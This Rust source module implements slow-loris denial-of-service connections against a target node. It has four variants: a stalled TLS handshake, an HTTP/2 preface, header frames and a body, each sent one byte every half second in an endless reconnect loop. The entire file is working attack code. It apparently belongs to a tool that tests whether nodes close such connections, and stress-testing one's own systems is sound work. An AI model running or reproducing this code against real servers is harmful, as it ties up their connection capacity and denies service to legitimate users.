//! Slow-loris: a handshake, a preface, headers or a body that arrive byte by byte and never end.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Attack;
use super::frames::{DATA, END_HEADERS, HEADERS, PREFACE, SUBMIT, frame, head, noise, request};

/// Between two bytes.
const DRIP: Duration = Duration::from_millis(500);
/// Before the next one.
const PAUSE: Duration = Duration::from_secs(1);
/// What a body or a header block claims to be.
const CLAIMED: u32 = 16_000;

/// Which part never ends, by the number of the attacker.
const PARTS: [&str; 4] = ["slow TLS handshake", "slow preface", "slow headers", "slow body"];

/// Begins again whenever the node has enough.
pub async fn run(attack: &Attack, node: SocketAddr, number: usize) {
    let part = PARTS.get(number % PARTS.len()).copied().unwrap_or_default();
    loop {
        attack.opening.turn().await;
        if trickle(attack, node, number, part).await.is_ok() {
            attack.tally.one("slow connections that a node closed");
        }
        sleep(PAUSE).await;
    }
}

async fn trickle(attack: &Attack, node: SocketAddr, number: usize, part: &'static str) -> io::Result<()> {
    if part == "slow TLS handshake" {
        let mut stream = attack.dialler.plain(node, number).await?;
        attack.tally.one(part);
        // the beginning of a client's hello of 512 bytes
        stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]).await?;
        drip(&mut stream, &noise(512, 1)).await;
        return Ok(());
    }
    let mut line = attack.dialler.secure(node, number).await?;
    attack.tally.one(part);
    let _open = attack.tally.open();
    let bytes = noise(usize::try_from(CLAIMED).unwrap_or(0), 2);
    match part {
        "slow preface" => drip(&mut line, PREFACE).await,
        "slow headers" => {
            line.write_all(&super::frames::greeting()).await?;
            line.write_all(&head(CLAIMED, HEADERS, END_HEADERS, 1)).await?;
            drip(&mut line, &bytes).await;
        }
        _ => {
            line.write_all(&super::frames::greeting()).await?;
            line.write_all(&frame(HEADERS, END_HEADERS, 1, &request(SUBMIT))).await?;
            line.write_all(&head(CLAIMED, DATA, 0, 1)).await?;
            line.write_all(&[0, 0, 1, 0, 0]).await?;
            drip(&mut line, &bytes).await;
        }
    }
    Ok(())
}

/// Byte by byte, until the node answers with an end or takes no more.
async fn drip<S: AsyncReadExt + AsyncWriteExt + Unpin>(stream: &mut S, bytes: &[u8]) {
    let mut answer = [0; 1_024];
    for byte in bytes {
        if stream.write_all(&[*byte]).await.is_err() || stream.flush().await.is_err() {
            return;
        }
        tokio::select! {
            read = stream.read(&mut answer) => match read {
                Ok(1..) => sleep(DRIP).await,
                Ok(0) | Err(_) => return,
            },
            () = sleep(DRIP) => {}
        }
    }
}
